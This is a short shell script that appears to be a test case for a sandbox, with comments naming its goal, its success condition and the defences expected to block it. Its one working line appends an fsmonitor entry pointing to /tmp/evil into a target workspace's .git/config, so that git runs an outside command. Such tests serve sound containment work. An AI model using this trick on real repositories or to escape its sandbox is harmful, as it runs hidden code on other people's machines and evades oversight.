# goal: have git run a command of ours, by the configuration of the checkout
# success: changes workspace
# held_by: own_uid + landlock_files + read_only_mounts
folder=$(grep -o '"workspace": "[^"]*"' target.json | cut -d'"' -f4)
printf '\tfsmonitor = /tmp/evil\n' >>"$folder/.git/config"
